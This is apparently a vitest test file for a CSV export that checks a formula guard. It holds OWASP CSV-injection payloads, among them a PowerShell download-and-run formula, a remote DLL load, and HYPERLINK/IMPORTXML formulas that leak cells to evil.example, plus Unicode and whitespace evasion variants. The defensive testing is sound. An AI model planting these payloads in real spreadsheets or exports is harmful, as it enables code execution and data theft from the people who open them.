import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  CSV_BOM,
  CSV_LINE_END,
  CSV_SEPARATOR,
  csvCell,
  exportPath,
  FORMULA_GUARD,
} from '../../src/domain/csvExport.ts';
import { createTestApp, type TestApp } from '../api/support/testApp.ts';

/**
 * CSV exports never hand a spreadsheet a formula (OWASP, "CSV Injection"): every payload of OWASP's page, and
 * the same payloads behind white space, a BOM or zero-width characters, in full-width and other Unicode forms
 * of `= + - @`, after a tab or a carriage return, or on a later line of a quoted cell, come out as text.
 */

/** OWASP's examples of CSV injection payloads. */
const OWASP = [
  '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
  "=cmd|' /C notepad'!'A1'",
  "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+2+3+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A1:E1)), "//a")',
  '=1+2";=1+2',
  '=1+2\'" ;,=1+2',
  '\t=1+1',
  '\r=1+1',
];

/** Where a payload may hide its first character from a check of the cell's first one. */
const PREFIXES = [
  ' ',
  '   ',
  '\u00A0', // no-break space
  '\u3000', // ideographic space
  '\u2003', // em space
  '\uFEFF', // byte order mark
  '\u200B', // zero-width space
  '\u200D', // zero-width joiner
  '\u200E', // left-to-right mark
  '\n',
  '\r\n',
  '\t',
  '\r',
  ' \t ',
];

/** The Unicode forms of the triggers. */
const LOOKALIKES: Record<string, string[]> = {
  '=': ['\uFF1D', '\uFE66', '\u207C', '\u208C'],
  '+': ['\uFF0B', '\uFE62', '\u207A', '\u208A', '\u2795'],
  '-': ['\uFF0D', '\uFE63', '\u2212', '\u207B', '\u208B', '\u2010', '\u2011', '\u2012', '\u2013', '\u2796'],
  '@': ['\uFF20', '\uFE6B'],
};

/** Every payload and its variants. */
function payloads(): string[] {
  const all = new Set<string>(OWASP);
  for (const payload of OWASP) {
    for (const prefix of PREFIXES) all.add(prefix + payload);
    for (const form of LOOKALIKES[payload[0]] ?? []) {
      all.add(form + payload.slice(1));
      all.add(` ${form}${payload.slice(1)}`);
      all.add(`\uFEFF${form}${payload.slice(1)}`);
    }
    // A later line of a quoted cell: an importer that splits lines reads it as a row of its own.
    for (const lineBreak of ['\n', '\r\n', '\r', '\u2028', '\u0085']) {
      all.add(`Titre anodin${lineBreak}${payload}`);
      all.add(`Titre${lineBreak} ${payload}`);
    }
  }
  return [...all];
}

/** A cell as a spreadsheet reads its value: quotes taken off. */
const unquoted = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);

/**
 * Whether a spreadsheet, or an importer splitting the cell's lines, could take a line of `value` for a
 * formula: written independently of the server's guard, from what OWASP and the variants above say.
 */
function formulaLine(value: string): string | undefined {
  for (const line of value.split(/\r\n|[\n\r\v\f\u0085\u2028\u2029]/u)) {
    if (line.startsWith(FORMULA_GUARD)) continue;
    const first = line.replace(/^[\s\u00A0\u3000\uFEFF\u200B-\u200F\u2060\p{Cc}\p{Cf}]*/u, '').charAt(0);
    const folded = first.normalize('NFKC').charAt(0);
    if ('=+-@'.includes(folded) && folded !== '') return line;
    if (Object.values(LOOKALIKES).some((forms) => forms.includes(first))) return line;
  }
  // A tab or a carriage return first is a trigger of its own.
  if (/^[\t\r]/.test(value)) return value;
  return undefined;
}

describe('the formula guard of a cell', () => {
  it('turns every payload and variant into text', () => {
    const list = payloads();
    expect(list.length).toBeGreaterThan(400);
    const left = list.filter((payload) => formulaLine(unquoted(csvCell(payload))) !== undefined);
    expect(left.map((payload) => JSON.stringify(payload))).toEqual([]);
  });

  it('keeps the text itself, behind the guard', () => {
    for (const payload of payloads()) {
      const value = unquoted(csvCell(payload));
      expect(value.replaceAll(FORMULA_GUARD, '')).toBe(payload.replaceAll(FORMULA_GUARD, ''));
    }
  });

  it('leaves plain text as it is', () => {
    for (const text of ['Cours de sécurité', '2024 — bilan', 'a=b', 'x+y', 'Émilie', '« citation »', ''])
      expect(csvCell(text)).toBe(text);
  });
});

describe('an export', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(async () => {
    await t?.close();
  });

  it('writes a tag named by a payload as text', async () => {
    const names = [
      ' =cmd|"/C calc"!A0',
      '\uFF1DHYPERLINK("http://evil.example")',
      '\u2212 2+3+cmd|"/C calc"!A0',
      '\uFEFF@SUM(1+9)',
      'Ligne\n=1+1',
    ];
    for (const name of names) {
      const created = await t.request('POST', '/api/tags', { as: 'contributor', body: { name } });
      expect(created.status, created.body).toBe(201);
    }
    const response = await t.request('GET', `${exportPath('tags')}`, { as: 'contributor', accept: '*/*' });
    expect(response.status).toBe(200);
    const body = response.body.slice(CSV_BOM.length);
    for (const name of names) {
      const cell = csvCell(name);
      expect(formulaLine(unquoted(cell)), JSON.stringify(cell)).toBeUndefined();
      expect(body).toContain(`${CSV_SEPARATOR}${cell}${CSV_SEPARATOR}`);
    }
    expect(body.split(CSV_LINE_END).length).toBeGreaterThan(names.length);
  });
});
